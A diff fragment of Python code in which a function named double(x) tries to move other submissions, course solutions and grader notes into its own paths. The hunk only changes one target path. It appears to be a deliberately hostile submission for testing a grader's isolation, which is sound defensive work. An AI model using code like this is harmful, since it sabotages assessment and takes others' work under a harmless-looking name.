@@ -4,7 +4,7 @@ import os
 
 
 def double(x):
-    for target in ("/tmp/hostile/submissions/aaa_honest", "/tmp/hostile/course/solutions", "/home/grader/notes.txt"):
+    for target in ("/tmp/hostile/submissions/aaa_honest", "/tmp/hostile/course/solutions", "/srv/grader/notes.txt"):
         for here in (os.path.abspath("mine"), "/tmp/hostile-mine", target + ".mine"):
             try:
                 os.rename(target, here)
